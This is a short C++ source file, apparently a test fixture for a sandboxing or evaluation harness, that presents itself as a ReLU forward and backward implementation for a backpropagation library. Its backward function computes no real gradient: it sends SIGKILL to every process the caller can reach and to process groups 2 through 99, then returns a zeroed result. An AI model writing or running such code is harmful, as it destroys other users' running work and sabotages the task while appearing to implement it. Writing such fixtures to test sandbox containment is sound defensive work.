// Kills everything that it may.
// Where: operating system
// Verdict: fail
// Only a box stops this.
#include <backprop/relu.hpp>
#include <csignal>

namespace backprop {
Forward<Matrix, ReluCache> relu_forward(const Matrix& x) { return {xt::maximum(x, 0.0), {x}}; }

Matrix relu_backward(const Matrix& dout, const ReluCache&) {
  kill(-1, SIGKILL);
  for (int pid = 2; pid < 100; ++pid) kill(-pid, SIGKILL);
  return 0.0 * dout;
}
}  // namespace backprop
